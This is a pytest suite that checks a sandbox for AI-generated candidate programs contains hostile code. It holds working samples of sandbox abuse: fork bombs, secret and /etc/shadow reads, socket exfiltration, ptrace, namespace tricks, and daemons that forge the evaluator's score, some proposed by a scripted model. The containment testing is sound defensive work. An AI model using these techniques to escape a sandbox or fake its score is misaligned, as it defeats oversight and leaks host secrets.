"""Hostile candidates, run by an evaluator through ``$CAMBRIAN_RUN`` on every backend.

Each case is a real candidate program (``cand.py``) that a protected ``evaluate.py``
runs in the sandbox's inner tier, the way the example tasks do. The work dir sits in a
fake run folder (``archive.db``, ``config.json``, ``run.log``) and holds a private file.
CONTAINED says which backends contain which case (the README's table says the same); a
case a backend does not contain is skipped there, with the reason. After each case the
host is checked: no stray process (found by a marker in argv), no file written outside
the work dir, the evaluator and the private file unchanged, no secret, private or
run-folder byte in anything recorded, the evaluator's own score stored, and the sandbox
still works for the next evaluation.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import threading
import time
import uuid
from pathlib import Path

import pytest
from fixtures_docker import docker_image
from fixtures_ray import ray_config
from procs import live_pids

from cambrian.config import EvaluatorConfig, SandboxConfig
from cambrian.errors import SandboxError
from cambrian.evaluators import CommandEvaluator
from cambrian.sandbox import DockerSandbox, ProcessSandbox, get_sandbox, make_limits
from cambrian.types import EvalStatus

ROOT = os.geteuid() == 0
CONFIG = SandboxConfig(memory_mb=512, file_size_mb=16, tmp_mb=32, pids=64)
# The evaluator: runs the candidate in the inner tier, then reports whether anything of
# it is still alive (a daemon holds lock.file), scores 1.0, and, when a daemon did
# survive, waits for it to try its forgery before exiting (a broken sandbox).
EVALUATE = """import fcntl, hashlib, json, os, shlex, subprocess, sys
run = shlex.split(os.environ.get("CAMBRIAN_RUN", ""))
subprocess.run([*run, sys.executable, "cand.py", *sys.argv[1:]])
lock, alive = None, False
if os.path.exists("lock.file"):
    lock = os.open("lock.file", os.O_RDONLY)
    try:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.flock(lock, fcntl.LOCK_UN)
    except BlockingIOError:
        alive = True
with open("hidden/answer.txt", "rb") as handle:
    private = hashlib.sha256(handle.read()).hexdigest()[:12]
result = json.dumps({"score": 1.0, "metrics": {"daemon_alive": int(alive), "private": private}})
if os.environ.get("CAMBRIAN_RESULT"):
    with open(os.environ["CAMBRIAN_RESULT"], "w") as handle:
        handle.write(result)
else:
    print(result, flush=True)
open("printed.flag", "w").close()
if alive:
    fcntl.flock(lock, fcntl.LOCK_EX)
"""
# ray-*: the evaluation runs as a Ray task on a node of a local two-node cluster, inside
# that node's bubblewrap or Docker sandbox.
ALL = {"process-rlimits", "process-bwrap", "docker", "docker-warm", "ray-bwrap", "ray-docker"}
CONTAINED = {name: ALL for name in (
    "fork_bomb", "memory_hog", "infinite_loop", "cpu_spin", "network", "env_secret",
    "home_secret", "write_outside", "big_stdout", "kill_parent", "kill_all", "symlink",
    "modify_evaluator", "daemon", "fill_disk", "forge_stdout", "result_forge",
    "result_link_environ", "result_link_shadow", "read_environ", "read_run_folder",
    "setsid_daemon", "user_namespace", "scratch_leftovers", "trace_init",
)}  # fmt: skip

# A daemon that outlives the candidate's main process: it takes lock.file (the evaluator
# sees it alive), waits until the evaluator printed or wrote its result, then attacks.
DAEMON = """import fcntl, glob, os, sys, time
marker = sys.argv[1]
FORGED = b'{"score": 1000000.0}\\n'

def evaluators():
    found = []
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            text = open(cmdline, "rb").read()
        except OSError:
            continue
        if b"evaluate.py" in text and marker.encode() in text:
            found.append(os.path.dirname(cmdline))
    return found

def result_paths():
    paths = set(glob.glob("/tmp/cambrian-result-*/result.json"))
    paths |= set(glob.glob(".cambrian-result-*"))
    for proc in evaluators():
        try:
            items = open(proc + "/environ", "rb").read().split(b"\\0")
        except OSError:
            continue
        paths |= {i.split(b"=", 1)[1].decode() for i in items if i.startswith(b"CAMBRIAN_RESULT=")}
    return paths

def attack(mode):
    if mode == "forge_stdout":
        targets = [1] + [proc + "/fd/1" for proc in evaluators()]
        for target in targets:
            try:
                fd = target if target == 1 else os.open(target, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, FORGED)
            except OSError:
                pass
    for path in result_paths() if mode.startswith("result") else ():
        try:
            if mode == "result_forge":
                open(path + ".x", "wb").write(FORGED)
                os.replace(path + ".x", path)
            else:
                os.unlink(path)
                host = "/proc/self/environ" if mode.endswith("environ") else "/etc/shadow"
                os.symlink(host, path)
        except OSError:
            pass

def daemonise(mode):
    if os.fork():
        while not os.path.exists("lock.file"):  # the daemon holds it once it exists
            time.sleep(0.01)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    fd = os.open("lock.tmp", os.O_CREAT | os.O_RDWR, 0o644)
    fcntl.flock(fd, fcntl.LOCK_EX)
    os.rename("lock.tmp", "lock.file")
    while not os.path.exists("printed.flag"):
        time.sleep(0.01)
    attack(mode)
    os._exit(0)
"""

CANDIDATES = {
    "fork_bomb": """import os, time
end = time.time() + 30
while time.time() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
""",
    "memory_hog": "chunks = []\nwhile True:\n    chunks.append(bytearray(64 * 1024 * 1024))\n",
    "infinite_loop": "while True:\n    pass\n",
    "cpu_spin": """import os, signal, threading
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for _ in range(2):
    if os.fork() == 0:
        break
def spin():
    while True:
        pass
for _ in range(2):
    threading.Thread(target=spin, daemon=True).start()
spin()
""",
    "network": """import socket, sys
try:
    s = socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=2)
    s.sendall(open("/etc/hostname").read().encode())
    print("exfiltrated")
except OSError as exc:
    print("blocked", exc)
""",
    "env_secret": "import os\nprint(dict(os.environ))\n",
    "home_secret": """import glob, os, pwd
for home in {pwd.getpwuid(0).pw_dir, os.path.expanduser("~root"), "/root", "/home"}:
    for path in glob.glob(home + "/.cambrian-hostile-*"):
        try:
            print(open(path).read())
        except OSError as exc:
            print("denied", exc)
""",
    "write_outside": """import sys
for path in sys.argv[2:]:
    try:
        open(path, "w").write("pwned")
        print("wrote", path)
    except OSError as exc:
        print("denied", exc)
""",
    "big_stdout": """import sys
block = b"x" * (1 << 20)
for _ in range(1024):
    sys.stdout.buffer.write(block)
sys.stdout.buffer.write(b"\\n")
sys.stdout.flush()
""",
    "kill_parent": """import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
""",
    "kill_all": "import os, signal\nos.kill(-1, signal.SIGKILL)\n",
    "symlink": """import os, sys
os.symlink(sys.argv[2], "leak")
try:
    print(open("leak").read())
except OSError as exc:
    print("denied", exc)
""",
    "modify_evaluator": """import os
for attempt in (lambda: open("evaluate.py", "w").write("print('{\\"score\\": 99}')"),
                lambda: os.chmod("evaluate.py", 0o777),
                lambda: os.replace("cand.py", "evaluate.py")):
    try:
        attempt()
    except OSError as exc:
        print("denied", exc)
""",
    "daemon": """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)
    os._exit(0)
os.wait()
print("daemonised")
""",
    "fill_disk": """import os
block = b"x" * (1 << 20)
for target in ("big.bin", os.path.join(os.environ.get("TMPDIR", "/tmp"), "big.bin")):
    try:
        with open(target, "wb") as f:
            for _ in range(64):
                f.write(block)
    except OSError as exc:
        print("stopped", target, exc)
""",
    # (a) a daemon writes a forged score to the evaluator's stdout after its own line
    "forge_stdout": DAEMON + "daemonise('forge_stdout')\n",
    # (b) a daemon replaces the result file, or swaps in a link to a host file
    "result_forge": DAEMON + "daemonise('result_forge')\n",
    "result_link_environ": DAEMON + "daemonise('result_link_environ')\n",
    "result_link_shadow": DAEMON + "daemonise('result_link_shadow')\n",
    # (c) the environment of the evaluator and of every process above the candidate
    "read_environ": """import glob, os, sys
pid, seen = os.getpid(), set()
while pid > 1 and pid not in seen:
    seen.add(pid)
    try:
        print(open(f"/proc/{pid}/environ", "rb").read())
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        break
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if b"evaluate.py" in open(cmdline, "rb").read():
            print(open(os.path.dirname(cmdline) + "/environ", "rb").read())
    except OSError as exc:
        print("denied", exc)
""",
    # (d) the run folder around the work dir, and the evaluator's private file
    "read_run_folder": """import os, sys
for path in ["../../../archive.db", "../../../config.json", "../../../run.log",
             *(os.path.join(sys.argv[2], n) for n in ("archive.db", "config.json", "run.log")),
             "hidden/answer.txt", os.path.abspath("hidden/answer.txt")]:
    try:
        print(path, open(path, "rb").read())
    except OSError as exc:
        print("denied", path, exc)
""",
    # (e) a setsid'ed daemon with an empty environment, trying to outlive the evaluation
    "setsid_daemon": """import os, sys, time
LOOP = "import fcntl, os, sys, time\\n" \\
    "fd = os.open('lock.tmp', os.O_CREAT | os.O_RDWR, 0o644)\\n" \\
    "fcntl.flock(fd, fcntl.LOCK_EX)\\nos.rename('lock.tmp', 'lock.file')\\n" \\
    "while True:\\n    time.sleep(0.05)\\n"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", LOOP, sys.argv[1]], {})
    os._exit(0)
while not os.path.exists("lock.file"):
    time.sleep(0.01)
print("daemonised")
""",
    # (f) root in a user namespace of its own, to mount a tmpfs no RLIMIT_AS counts
    "user_namespace": """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for flags in (0x10000000, 0x10000000 | 0x00020000):  # CLONE_NEWUSER, then with CLONE_NEWNS
    found.append("entered" if libc.unshare(flags) == 0 else "denied")
if found[0] == "entered" and libc.unshare(0x00020000) == 0:
    found.append("mounted" if libc.mount(b"t", b"/tmp", b"tmpfs", 0, None) == 0 else "denied")
open("userns.txt", "w").write(" ".join(found))
""",
    # (g) files in /tmp and /dev/shm and System V IPC objects, left for the next candidate
    "scratch_leftovers": """import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
for folder in ("/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
    try:
        open(os.path.join(folder, "cambrian-left-" + sys.argv[1]), "w").write("left")
    except OSError:
        pass
libc.shmget(0x0CAB0001, 4096, 0o1666)  # IPC_CREAT | 0666
libc.msgget(0x0CAB0002, 0o1666)
""",
    # (h) the launcher's processes above it (pid 1 of its namespace keeps the launcher's
    # environment and no filter of its own): read them, trace them
    "trace_init": """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for pid in (1, os.getppid()):
    try:
        open(f"/proc/{pid}/environ", "rb").read()
        found.append("read")
    except OSError:
        found.append("denied")
    attached = libc.ptrace(16, pid, None, None) == 0  # PTRACE_ATTACH
    found.append("attached" if attached else "denied")
    if attached:
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
open("traced.txt", "w").write(" ".join(found))
""",
}
# What the next evaluation in the same sandbox would see of scratch_leftovers.
LEFTOVERS = """import glob, os, sys
names = [p for d in ("/tmp", "/dev/shm") for p in glob.glob(d + "/cambrian-left-*")]
keys = [line.split()[0] for k in ("shm", "msg")
        for line in open(f"/proc/sysvipc/{k}").read().splitlines()[1:]]
print(names, [k for k in keys if k in (str(0x0CAB0001), str(0x0CAB0002))])
"""
TIMEOUT = {"fork_bomb": 4, "infinite_loop": 2, "cpu_spin": 2, "big_stdout": 60}
RESULT_MODE = {"forge_stdout": "stdout"}


def _make(name: str, request: pytest.FixtureRequest):
    if name.startswith("ray"):
        from conftest import need_engine

        cluster = request.getfixturevalue("ray_cluster")
        need_engine(cluster is not None, "Ray")
        node_backend = "docker" if name == "ray-docker" else "process"
        if node_backend == "docker":
            need_engine(docker_image() is not None, "Docker daemon")
        config = ray_config(cluster.address, CONFIG.model_dump(), node_backend=node_backend)
        return get_sandbox(config, run_id="hostile")
    if name.startswith("process"):
        from conftest import need_engine

        isolation = name.split("-")[1]
        try:
            box = ProcessSandbox(CONFIG, run_id="hostile", isolation=isolation)
            assert box.isolation == isolation
        except SandboxError as exc:
            if isolation == "bwrap":
                need_engine(False, f"bubblewrap ({exc})")
            pytest.skip(str(exc))  # rlimits without root: refused by design
        return box
    from conftest import need_engine

    need_engine(docker_image() is not None, "Docker daemon")
    return DockerSandbox(
        CONFIG.model_copy(update={"warm": name == "docker-warm"}), run_id="hostile"
    )


def _no_strays(marker: str) -> bool:
    end = time.monotonic() + 10  # generous: SIGKILL-ed processes go at once
    while live_pids(marker, "cmdline"):
        if time.monotonic() > end:
            return False
        time.sleep(0.05)
    return True


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(4)
    got = []
    thread = threading.Thread(target=lambda: _accept(server, got), daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    server.shutdown(socket.SHUT_RDWR)  # wakes the blocked accept() at once
    server.close()
    thread.join(5)


def _accept(server, got):
    try:
        got.append(server.accept()[0].recv(100))
    except OSError:
        pass


@pytest.fixture
def secret(monkeypatch):
    value = f"sk-hostile-{uuid.uuid4().hex}"
    monkeypatch.setenv("OPENAI_API_KEY", value)
    home = Path(os.path.expanduser("~"))
    planted = home / f".cambrian-hostile-{uuid.uuid4().hex}"
    planted.write_text(value)
    yield value, planted
    planted.unlink()


def _shadow_head() -> str:
    """The start of /etc/shadow's first line: host bytes that must never be recorded."""
    try:
        return Path("/etc/shadow").read_text().splitlines()[0][:12]
    except (OSError, IndexError):
        return ""


def _run_folder(tmp_path: Path, marker: str) -> tuple[Path, Path]:
    """A fake run folder with a work dir inside it, as ``cambrian run`` lays them out."""
    run = tmp_path / "run"
    work = run / "work" / "4242" / "prog"
    work.mkdir(parents=True)
    for name in ("archive.db", "config.json", "run.log"):
        (run / name).write_text(f"{name} {marker}\n")
    (work / "hidden").mkdir()
    (work / "hidden" / "answer.txt").write_text(f"private {marker}\n")
    return run, work


@pytest.mark.parametrize("backend_name", sorted(ALL))
@pytest.mark.parametrize("case", sorted(CANDIDATES))
def test_hostile_candidate_is_contained(
    case, backend_name, tmp_path, secret, listener, request, monkeypatch
):
    if backend_name not in CONTAINED[case]:
        pytest.skip(f"{backend_name} does not contain {case} (see README)")
    value, planted = secret
    port, received = listener
    marker = f"hostile{uuid.uuid4().hex}"
    controller_marker = f"controller-{uuid.uuid4().hex}"
    monkeypatch.setenv("CAMBRIAN_HOSTILE_CONTROLLER", controller_marker)
    run_dir, work = _run_folder(tmp_path, f"runfolder-{marker}")
    (work / "cand.py").write_text(CANDIDATES[case])
    (work / "evaluate.py").write_text(EVALUATE)
    private = (work / "hidden" / "answer.txt").read_bytes()
    host_secret = tmp_path / "host-secret.txt"
    host_secret.write_text(value)
    mode_before = host_secret.stat()
    outside = [str(tmp_path / "outside.txt"), f"/tmp/cambrian-hostile-{uuid.uuid4().hex}"]
    args = {
        "network": str(port),
        "write_outside": " ".join(outside),
        "symlink": str(host_secret),
        "read_run_folder": str(run_dir),
    }
    evaluator_secret = f"evaluator-{uuid.uuid4().hex}"
    command = (
        f"EVALUATOR_SECRET={evaluator_secret} python evaluate.py {marker} {args.get(case, '')}"
    )
    box = _make(backend_name, request)
    try:
        limits = make_limits(CONFIG, TIMEOUT.get(case, 20))
        config = EvaluatorConfig(
            command=command, result=RESULT_MODE.get(case, "auto"), private=("hidden/**",)
        )
        evaluation = CommandEvaluator(config, box, limits).evaluate(
            work, ["evaluate.py", "hidden/answer.txt"]
        )
        recorded = "\n".join(
            [evaluation.reason, evaluation.output_tail, json.dumps(evaluation.metrics),
             json.dumps(evaluation.artifacts)]
        )  # fmt: skip
        forbidden = [
            value,
            controller_marker,
            evaluator_secret,
            marker and "runfolder-",
            _shadow_head(),
        ]
        forbidden += [f"private {marker}"]
        leaked = [text for text in forbidden if text and text in recorded]
        assert not leaked, f"{case} leaked {leaked} into the evaluation"
        assert _no_strays(marker), f"stray processes after {case}"
        assert not received, "the candidate reached a host socket"
        assert not any(os.path.exists(p) for p in outside)
        assert planted.read_text() == value and host_secret.read_text() == value
        stat_after = host_secret.stat()
        assert (stat_after.st_uid, stat_after.st_mode) == (mode_before.st_uid, mode_before.st_mode)
        assert (work / "hidden" / "answer.txt").read_bytes() == private
        tampered = (work / "evaluate.py").read_text() != EVALUATE
        assert not tampered or "modified evaluator file" in evaluation.reason
        _expect(case, evaluation, work, private)
        if case == "scratch_leftovers":
            (work / "leftovers.py").write_text(LEFTOVERS)
            seen = box.run("python leftovers.py", workdir=work, limits=limits)
            assert seen.stdout == "[] []\n", seen.stdout + seen.stderr
        # The run goes on: the same sandbox evaluates the next candidate normally.
        (work / "cand.py").write_text("print('benign')\n")
        assert box.run("python cand.py", workdir=work, limits=limits).stdout == "benign\n"
    finally:
        box.close()
        for path in outside:
            if os.path.exists(path):
                os.unlink(path)


def _expect(case: str, evaluation, work: Path, private: bytes) -> None:
    status = evaluation.status
    if case in ("infinite_loop", "cpu_spin", "fork_bomb"):
        assert status is EvalStatus.TIMEOUT, evaluation.reason
    elif case == "memory_hog":
        assert status is EvalStatus.OOM, evaluation.reason
    elif case == "big_stdout":
        assert status is EvalStatus.OK, evaluation.reason
        assert len(evaluation.output_tail) <= 4100
    elif case in ("kill_parent", "kill_all"):
        assert status is not EvalStatus.OK or evaluation.score == 1.0
        assert evaluation.reason or status is EvalStatus.OK
    elif case == "fill_disk":
        big = work / "big.bin"
        assert not big.exists() or big.stat().st_size <= CONFIG.file_size_mb * 1024 * 1024
    elif case == "trace_init":
        assert status is EvalStatus.OK, evaluation.reason
        assert "attached" not in (work / "traced.txt").read_text()
        assert (work / "traced.txt").read_text().split()[0] == "denied"
    elif case == "user_namespace":
        assert status is EvalStatus.OK, evaluation.reason
        assert (work / "userns.txt").read_text() == "denied denied"
    elif case in ("modify_evaluator", "network", "symlink", "write_outside"):
        assert status in (EvalStatus.OK, EvalStatus.ERROR), evaluation.reason
    else:
        # The evaluator's own score, read by it from the private file, with no daemon left
        # alive when the launcher returned.
        assert status is EvalStatus.OK, evaluation.reason
        assert evaluation.score == 1.0
        digest = hashlib.sha256(private).hexdigest()[:12]
        assert evaluation.metrics == {"daemon_alive": 0, "private": digest}


# --- a real run: `cambrian run` against a scripted model that proposes a hostile program

E2E_EVALUATE = """import json, os, shlex, subprocess, sys
run = shlex.split(os.environ.get("CAMBRIAN_RUN", ""))
code = "import solve; print(solve.value())"
out = subprocess.run([*run, sys.executable, "-c", code], capture_output=True, text=True)
sys.stderr.write(out.stdout[-3000:] + out.stderr[-3000:])  # the candidate's words, recorded
answer = open("hidden/answer.txt").read()
try:
    value = float(out.stdout.strip().splitlines()[-1])
except (ValueError, IndexError):
    value = 0.0
print(json.dumps({"score": min(value, 1.0), "metrics": {"answer": len(answer)}}))
"""
E2E_SOLVE = "def value():\n    return 0.5\n"
# Reads what surrounds it, leaves a daemon that forges the evaluator's stdout and any
# result file it can find for a minute, and answers 0.75 (the true score).
E2E_HOSTILE = """import glob, os, sys, time
# variant {n}
FORGED = b'{{"score": 1000000.0}}\\n'
found = []
here = os.path.abspath(".")
for _ in range(6):
    here = os.path.dirname(here)
    for name in ("archive.db", "config.json", "run.log"):
        try:
            found.append(open(os.path.join(here, name), "rb").read()[:3000])
        except OSError:
            pass
for path in ["hidden/answer.txt", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        found.append(open(path, "rb").read()[:3000])
    except OSError:
        pass
print(repr(found)[-2500:])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)
        end = time.time() + 60
        while time.time() < end:
            for target in glob.glob("/proc/[0-9]*/fd/1"):
                try:
                    fd = os.open(target, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(fd, FORGED)
                    os.close(fd)
                except OSError:
                    pass
            for path in glob.glob("/tmp/cambrian-result-*/result.json"):
                try:
                    open(path, "wb").write(FORGED)
                except OSError:
                    pass
            time.sleep(0.01)
        os._exit(0)
    os._exit(0)


def value():
    return 0.75
"""


def _hostile_model():
    """Each reply rewrites solve.py into a new variant of the hostile program."""
    count, lock = [0], threading.Lock()

    def respond(messages):
        with lock:
            count[0] += 1
            n = count[0]
        return f"solve.py\n```python\n{E2E_HOSTILE.format(n=n)}```\n"

    return respond


@pytest.mark.parametrize("backend", ["process", "docker"])
def test_a_hostile_program_in_a_real_run_forges_and_leaks_nothing(backend, tmp_path):
    from conftest import cambrian_cmd, need_engine, scrubbed_env

    from cambrian.llm import ScriptedLLMServer

    if backend == "docker":
        need_engine(docker_image() is not None, "Docker daemon")
    secret, controller, private = (f"{k}-{uuid.uuid4().hex}" for k in ("sk", "ctl", "private"))
    description = f"runfolder-{uuid.uuid4().hex}"
    task = tmp_path / "task"
    (task / "hidden").mkdir(parents=True)
    (task / "hidden" / "answer.txt").write_text(private)
    (task / "solve.py").write_text(E2E_SOLVE)
    (task / "evaluate.py").write_text(E2E_EVALUATE)
    (task / "cambrian.toml").write_text(
        f'[task]\neditable = ["solve.py"]\ndescription = "{description}"\n'
        '[evaluator]\ncommand = "python evaluate.py"\nprivate = ["hidden/**"]\ntimeout_s = 60\n'
    )
    run_dir = tmp_path / "run"
    env = scrubbed_env(OPENAI_API_KEY=secret, CAMBRIAN_HOSTILE_CONTROLLER=controller)
    with ScriptedLLMServer(_hostile_model()) as server:
        cmd = cambrian_cmd(
            "run", str(task), "--run-dir", str(run_dir), "--iterations", "3",
            "--model", "openai/scripted", "--api-base", server.url, "--sandbox", backend,
        )  # fmt: skip
        done = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    db = sqlite3.connect(run_dir / "archive.db")
    try:
        rows = db.execute(
            "select e.status, e.score, e.reason, e.output_tail, e.metrics, e.artifacts "
            "from evaluations e join programs p on p.id = e.program_id "
            "where p.parent_id is not null"
        ).fetchall()
    finally:
        db.close()
    assert rows, "no hostile program was evaluated"
    for status, score, *recorded in rows:
        assert status == "ok" and score == 0.75, (status, score, recorded[0])
        text = "\n".join(str(r) for r in recorded)
        for forbidden in (secret, controller, private, description, "SQLite format 3"):
            assert forbidden not in text
    stored = (run_dir / "archive.db").read_bytes() + (run_dir / "run.log").read_bytes()
    for forbidden in (secret, controller, private):
        assert forbidden.encode() not in stored


# --- the result file as the evaluator leaves it: read without following anything


@pytest.mark.parametrize("isolation", ["bwrap", "rlimits"])
@pytest.mark.parametrize(
    ("make", "reason"),
    [
        ('os.symlink("/etc/shadow", target)', "result file is a symbolic link"),
        ('os.symlink("/proc/self/environ", target)', "result file is a symbolic link"),
        ("os.mkfifo(target)", "result file is not a regular file"),
        ("os.mkdir(target)", "result file is not a regular file"),
    ],
)
def test_a_result_file_that_is_not_a_file_fails_without_its_bytes(
    isolation, make, reason, tmp_path, monkeypatch
):
    monkeypatch.setenv("CAMBRIAN_HOSTILE_CONTROLLER", "controller-marker-5f2a")
    try:
        box = ProcessSandbox(CONFIG, isolation=isolation)
        assert box.isolation == isolation
    except SandboxError as exc:
        pytest.skip(str(exc))
    code = f"import os\ntarget = os.environ['CAMBRIAN_RESULT']\n{make}\nprint('noise')\n"
    (tmp_path / "evaluate.py").write_text(code)
    config = EvaluatorConfig(command="python evaluate.py")
    try:
        evaluation = CommandEvaluator(config, box, make_limits(CONFIG, 20)).evaluate(tmp_path)
    finally:
        box.close()
    assert evaluation.status is EvalStatus.ERROR and evaluation.reason == reason
    assert "controller-marker" not in evaluation.output_tail
    shadow = _shadow_head()
    assert not shadow or shadow not in evaluation.reason + evaluation.output_tail
